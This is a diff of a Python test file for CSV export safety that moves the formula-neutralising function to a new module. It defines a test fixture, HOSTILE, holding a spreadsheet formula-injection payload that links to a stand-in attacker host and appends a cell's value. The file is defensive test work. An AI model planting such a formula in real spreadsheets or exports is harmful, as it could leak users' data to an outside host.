@@ -1,5 +1,5 @@
 """CSV that is safe to open (issue 17, finding 6): formula-like text cells are neutralised per OWASP
-in ``core export`` and in the Events page download (one function, core.export.neutral_cell);
+in ``core export`` and in the Events page download (one function, core.io.csv_export.neutral_cell);
 ``--raw-csv`` keeps them; numbers stay numbers."""
 
 from __future__ import annotations
@@ -11,7 +11,7 @@ import pandas as pd
 import pytest
 
 from core.cli import main
-from core.export import neutral_cell, neutralise_cells, to_csv_bytes
+from core.io.csv_export import neutral_cell, neutralise_cells, to_csv_bytes
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 TEXT = (
